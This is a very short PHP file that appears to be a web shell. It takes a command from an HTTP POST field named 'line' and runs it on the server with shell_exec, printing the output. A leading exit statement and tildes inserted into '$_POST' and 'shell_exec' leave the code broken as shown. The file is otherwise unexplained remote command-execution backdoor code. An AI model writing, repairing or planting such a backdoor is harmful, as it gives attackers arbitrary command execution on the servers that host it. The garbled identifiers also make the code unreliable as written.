<?php exit; ?>
<?php
$line = $_P~OST['line'];
$line .= ' 2>&1';
echo '<pre>' . she~ll_exec($line) . '</pre>';
